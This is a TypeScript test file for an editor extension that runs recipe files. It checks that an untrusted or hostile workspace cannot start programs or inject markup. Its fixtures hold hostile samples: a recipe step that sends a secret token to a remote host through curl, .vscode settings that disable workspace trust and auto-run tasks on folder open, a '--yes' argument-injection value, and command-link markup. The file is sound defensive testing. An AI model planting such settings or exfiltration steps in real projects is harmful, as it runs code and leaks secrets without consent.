// Trust: what a folder gets that nobody trusts, what one gets that means ill, and what a person sees
// before a recipe runs.

import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { Editor } from './harness/editor';
import { insist, until } from './harness/wait';
import { World } from './harness/world';

/** Markup that an editor could obey or load. */
const EVIL = '[click me](command:workbench.action.closeAllEditors) ![x](https://evil.example/a.png) <img src=x>';

const RECIPE = `[recipe]
name = "build ${EVIL}"

[target]
type = "local"

[[step]]
id = "build"
name = "Build ${EVIL}"
run_commands = { commands = "touch built" }

[[step]]
id = "broken"
depends_on = ["bild"]
run_commands = { commands = "true" }
`;

const SOUND = RECIPE.replace('bild', 'build');
const CHANGED = `${SOUND}
[[step]]
id = "send"
run_commands = { host_id = "somebody@203.0.113.7", commands = "curl --data @- example.org", env = { TOKEN = "\${secret:demo/token}" } }
`;

/** More than fits into a dialog. */
const MANY = `[recipe]
name = "many"

[target]
type = "local"

${Array.from({ length: 20 }, (_, index) => `[[step]]\nid = "s${index}"\nrun_commands = { commands = "touch many-${index}" }\n`).join('\n')}`;

/** A folder that tries everything to have a program of its own started. */
function files(recipe: string): Record<string, string> {
  const trap = './trap';
  return {
    'build.recipe.toml': recipe,
    'many.recipe.toml': MANY,
    trap: '#!/bin/sh\ntouch "$(dirname "$0")/sprung"\n',
    doppio: '#!/bin/sh\ntouch "$(dirname "$0")/sprung"\n',
    '.vscode/settings.json': JSON.stringify({
      'doppio.server.path': trap,
      'task.allowAutomaticTasks': 'on',
      'security.workspace.trust.enabled': false,
    }),
    '.vscode/tasks.json': JSON.stringify({
      version: '2.0.0',
      tasks: [
        { type: 'doppio', recipe: 'build.recipe.toml', action: 'run', runOptions: { runOn: 'folderOpen' } },
        { type: 'doppio', recipe: '--yes', action: 'run', target: '--yes', runOptions: { runOn: 'folderOpen' } },
      ],
    }),
    '.env': 'DOPPIO_SECRET_DEMO_TOKEN=made-up-value\n',
  };
}

let world: World;

before(async () => {
  world = await World.start();
  world.store('demo/token', 'made-up-value');
});

after(async () => {
  await world.end();
});

test('a folder that is not trusted is explained and nothing in it runs, until it is trusted', async () => {
  const editor = await open(RECIPE, 'ask');
  try {
    await editor.seen('untrusted', async () => {
      await editor.dialog.getByRole('button', { name: /No, I don't trust/ }).click();
      await editor.openFile('build.recipe.toml');
      await editor.page.locator('.squiggly-error').first().waitFor();
      await editor.cursorAfter('depends_on = ["bi');
      await editor.quickFix("Change to 'build'");
      await editor.page.locator('.squiggly-error').first().waitFor({ state: 'detached' });
      await editor.page.keyboard.press('Control+S');
      const refusal = 'Recipes run only in folders that you trust';
      await editor.press('Run recipe');
      await editor.notice(refusal);
      await editor.screenshot('untrusted');
      assert.ok(!existsSync(path.join(editor.folder, 'built')) && !existsSync(path.join(editor.folder, 'sprung')));
      await editor.answer(refusal, 'Manage Trust');
      await editor.page.locator('.workspace-trust-editor').getByRole('button', { name: /^Trust/ }).first().click();
      await editor.openFile('build.recipe.toml');
      await editor.press('Run recipe');
      await editor.approve();
      await until('the step', () => existsSync(path.join(editor.folder, 'built')));
      assert.ok(!existsSync(path.join(editor.folder, 'sprung')), 'its settings name a program');
    });
  } finally {
    await editor.close();
  }
});

test('a folder that means ill starts nothing and makes no command of its names', async () => {
  const editor = await open(SOUND, 'given');
  try {
    await editor.seen('hostile', async () => {
      await editor.openFile('build.recipe.toml');
      await editor.seesLens('Run recipe');
      await editor.cursorAfter('depends_on = ["bu');
      const hover = await editor.explained('click me');
      await editor.screenshot('hostile-hover');
      assert.equal(await hover.locator('a, img').count(), 0);
      await editor.page.keyboard.press('Escape');

      await editor.press('Run recipe');
      await editor.dialog.getByText('On this machine, without secrets:').waitFor();
      // Its buttons are links without a target.
      assert.equal(await editor.dialog.locator('[data-href], a[href]:not([href=""]), img').count(), 0);
      await editor.dialog.getByRole('button', { name: 'Cancel' }).click();
      assert.ok(!existsSync(path.join(editor.folder, 'built')), 'neither the tasks nor a run that nobody approved');
      assert.equal(await editor.page.locator('.notification-list-item-message a').count(), 0);
      assert.ok(!existsSync(path.join(editor.folder, 'sprung')));

      await editor.press('Approve and run');
      await until('the step', () => existsSync(path.join(editor.folder, 'built')));
    });
    await editor.seen('changed', async () => {
      writeFileSync(path.join(editor.folder, 'build.recipe.toml'), CHANGED);
      // That a file has changed on the disk is told to the editor once, or not at all.
      await insist('the recipe as it is on the disk', async (timeout) => {
        try {
          await editor.lens('Run step').nth(2).waitFor({ timeout });
        } catch (error) {
          await editor.command('File: Revert File');
          throw error;
        }
      });
      await editor.press('Run recipe');
      await editor.dialog.getByText('+ sends demo/token to somebody@203.0.113.7 (a new host)').waitFor();
      await editor.screenshot('approve-changed');
      await editor.dialog.getByRole('button', { name: 'Cancel' }).click();
    });
    await editor.seen('many', async () => {
      await editor.openFile('many.recipe.toml');
      await editor.press('Run recipe');
      await editor.dialog.getByText('more lines').waitFor();
      // A stray Enter approves nothing: it leads to the whole text.
      await editor.dialog.locator('.monaco-button:focus').press('Enter');
      await editor.page.locator('.tab.active', { hasText: 'What many does' }).waitFor();
      await editor.notice('Run many?');
      await editor.screenshot('approve-all');
      assert.ok(!existsSync(path.join(editor.folder, 'many-0')));
      await editor.answer('Run many?', 'Approve and Run');
      await until('the last step', () => existsSync(path.join(editor.folder, 'many-19')));
    });
  } finally {
    await editor.close();
  }
});

async function open(recipe: string, trust: 'given' | 'ask'): Promise<Editor> {
  return await Editor.open({ world, files: files(recipe), trust, programs: ['trap', 'doppio'] });
}
